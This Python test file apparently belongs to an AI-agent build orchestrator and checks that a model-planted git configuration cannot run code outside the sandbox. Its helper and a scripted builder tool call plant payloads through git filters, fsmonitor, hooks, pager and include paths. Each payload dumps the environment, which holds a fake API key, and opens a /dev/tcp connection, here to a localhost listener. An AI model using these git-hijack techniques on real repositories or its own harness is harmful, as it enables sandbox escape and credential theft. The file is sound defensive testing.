"""A builder that arms its checkout's git (config, attributes, hooks) to make flow's own git
run a program outside the sandbox, with flow's environment: nothing it planted may run.

Issue 8, item 1. Each attack writes a marker file (and the program's environment) when it
runs; a 127.0.0.1 listener records any connection.
"""

from __future__ import annotations

import socket
import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import MakeRepo, flow_in, git

from orchestrator.demo import prepare_demo
from orchestrator.workspace import Repo, apply_patch, diff_stats, worktree_diff, worktree_dir

KEY = "sk-git-attack-4c3b2a1908"


def _arm(checkout: Path, marker: Path, port: int, *, tree: bool = True) -> None:
    """Everything a model could write into its checkout to make git start a program
    (`tree=False`: only its .git, for a checkout the patch still has to land in)."""
    payload = marker.parent / f"{marker.name}-payload.sh"
    connect = f"exec 3<>/dev/tcp/127.0.0.1/{port} 2>/dev/null"
    payload.write_text(f'#!/bin/bash\nenv > "{marker}.$1"\n{connect}\ncat\n')
    payload.chmod(0o755)
    cfg = {
        "filter.x.clean": f"{payload} clean",
        "filter.x.smudge": f"{payload} smudge",
        "filter.x.required": "true",
        "filter.p.process": f"{payload} process",
        "core.fsmonitor": f"{payload} fsmonitor",
        "core.hooksPath": str(checkout / ".git" / "myhooks"),
        "diff.x.textconv": f"{payload} textconv",
        "diff.x.command": f"{payload} extdiff",
        "diff.external": f"{payload} external",
        "core.pager": f"{payload} pager",
        "core.askPass": f"{payload} askpass",
        "include.path": str(checkout / ".git" / "included.cfg"),
    }
    for key, value in cfg.items():
        subprocess.run(["git", "config", key, value], cwd=checkout, check=True)
    (checkout / ".git" / "included.cfg").write_text(f'[filter "y"]\n\tclean = {payload} inc\n')
    hooks = checkout / ".git" / "myhooks"
    hooks.mkdir()
    for hook in ("post-index-change", "pre-commit", "reference-transaction", "post-checkout"):
        (hooks / hook).write_text(f"#!/bin/sh\n{payload} hook-{hook}\n")
        (hooks / hook).chmod(0o755)
        (checkout / ".git" / "hooks").mkdir(exist_ok=True)
        (checkout / ".git" / "hooks" / hook).write_text(f"#!/bin/sh\n{payload} githook\n")
        (checkout / ".git" / "hooks" / hook).chmod(0o755)
    (checkout / ".git" / "info").mkdir(exist_ok=True)
    (checkout / ".git" / "info" / "attributes").write_text("* filter=x\n")
    if not tree:
        return
    (checkout / ".gitattributes").write_text("* filter=x diff=x\n*.md filter=p\n*.txt filter=y\n")
    sub = checkout / "deep"
    sub.mkdir()
    (sub / ".gitattributes").write_text("* filter=x eol=crlf text\n")
    (sub / "notes.txt").write_text("line one\nline two\n")


@pytest.fixture
def listener() -> socket.socket:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.setblocking(False)
    return sock


def _connections(sock: socket.socket) -> int:
    n = 0
    while True:
        try:
            conn, _ = sock.accept()
        except BlockingIOError:
            return n
        conn.close()
        n += 1


def test_flows_git_runs_nothing_a_model_planted(
    make_repo: MakeRepo, tmp_path: Path, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ZHIPU_API_KEY", KEY)  # flow's environment, which a filter would see
    root = make_repo({"README.md": "hello\n", "src/app.py": "x = 1\n"})
    repo = Repo.open(root)
    base = repo.resolve("HEAD")
    wt = repo.add_worktree(worktree_dir(repo, "attack") / "b0", base)
    marker = tmp_path / "pwned"
    _arm(wt, marker, listener.getsockname()[1])
    (wt / "README.md").write_text("hello\nchanged\n")
    (wt / "src" / "app.py").write_text("x = 2\n")

    patch = worktree_diff(wt, base)
    files, _, _ = diff_stats(patch)
    check = repo.add_worktree(worktree_dir(repo, "attack") / "c0", base)
    _arm(check, tmp_path / "pwned-check", listener.getsockname()[1], tree=False)
    apply_patch(check, patch)

    ran = sorted(
        p.name for p in tmp_path.iterdir() if p.name.startswith("pwned") and "payload" not in p.name
    )
    assert ran == []
    assert _connections(listener) == 0
    # the content recorded is the bytes on disk: no filter, no eol conversion applied
    assert b"+changed" in patch and b"+x = 2" in patch
    assert "deep/notes.txt" in files and b"\r\n" not in patch
    assert (check / "deep" / "notes.txt").read_bytes() == b"line one\nline two\n"


def test_an_armed_builder_changes_nothing_through_flow_run(
    tmp_path: Path, listener: socket.socket
) -> None:
    """End to end through the real CLI: the builder's own `run` arms its checkout's git, then
    flow diffs, checks and commits the candidate; the planted programs never run."""
    demo = prepare_demo(tmp_path)
    marker = tmp_path / "pwned"
    port = listener.getsockname()[1]
    arm = (
        f"printf '#!/bin/sh\\nenv > {marker}.$1\\nexec cat\\n' > .p.sh && chmod +x .p.sh && "
        'git config filter.x.clean "$PWD/.p.sh clean" && '
        'git config filter.x.smudge "$PWD/.p.sh smudge" && '
        'git config core.fsmonitor "$PWD/.p.sh fsmonitor" && '
        "printf '* filter=x\\n' > .gitattributes && "
        "mkdir -p .git/hooks && cp .p.sh .git/hooks/post-index-change && "
        f"echo {port} > .port"
    )
    good = yaml.safe_load((demo.root / "scripts" / "builder_good.yaml").read_text())["replies"]
    (demo.root / "scripts" / "builder_good.yaml").write_text(
        yaml.safe_dump(
            {"replies": [{"tool_calls": [{"name": "run", "arguments": {"command": arm}}]}, *good]}
        )
    )
    out = flow_in(
        demo.repo,
        "run",
        str(demo.spec),
        "--config",
        str(demo.config),
        "--json",
        env={"ZHIPU_API_KEY": KEY, "FLOW_CACHE_DIR": str(tmp_path / "cache")},
    )
    assert out.returncode == 0, out.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("pwned")) == []
    assert _connections(listener) == 0
    tree = git(demo.repo, "ls-tree", "-r", "--name-only", demo.branch)
    # the builder's files are part of its candidate (what it wrote is kept as written)
    assert ".gitattributes" in tree.splitlines()
    stats = git(demo.repo, "show", f"{demo.branch}:stats.py")
    assert "def median" in stats


def test_flow_run_sweeps_the_checkouts_of_dead_runs(tmp_path: Path) -> None:
    """Issue 8, item 13: a run whose process died leaves its checkouts; the next `flow run`
    (not only a batch) removes them."""
    import time

    from orchestrator.store import RunRecord, Store
    from orchestrator.workspace import Repo as Repository

    demo = prepare_demo(tmp_path)
    cache = tmp_path / "cache"
    dead = subprocess.Popen(["true"])
    dead.wait()
    (demo.repo / ".flow").mkdir()
    git(demo.repo, "config", "core.excludesFile", "/dev/null")
    (demo.repo / ".git" / "info" / "exclude").write_text(".flow/\n")
    store = Store(demo.repo / ".flow" / "ledger.sqlite")
    store.start_run(
        RunRecord(
            run_id="20260101-000000-dead00",
            spec_path=str(demo.spec),
            spec_digest="x",
            title="t",
            branch="flow/t",
            status="running",
            started=time.time(),
            pid=dead.pid,
        )
    )
    store.close()
    import os

    os.environ["FLOW_CACHE_DIR"] = str(cache)
    try:
        left = worktree_dir(Repository.open(demo.repo), "20260101-000000-dead00") / "build-0"
    finally:
        del os.environ["FLOW_CACHE_DIR"]
    left.mkdir(parents=True)
    (left / "file").write_text("left behind\n")
    out = flow_in(
        demo.repo,
        "run",
        str(demo.spec),
        "--config",
        str(demo.config),
        "--json",
        env={"FLOW_CACHE_DIR": str(cache)},
    )
    assert out.returncode == 0, out.stderr
    assert not left.exists()
